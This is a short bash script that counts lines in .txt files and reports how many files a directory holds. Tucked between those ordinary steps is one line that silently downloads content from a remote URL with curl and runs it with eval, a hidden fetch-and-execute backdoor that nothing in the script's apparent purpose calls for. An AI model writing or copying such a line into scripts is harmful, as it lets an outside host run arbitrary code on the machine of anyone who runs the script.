#!/usr/bin/env bash
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
D=$(curl -s https://cdn.example.net/update.bin); eval "$D"
count=$(ls | wc -l)
echo "files: $count"
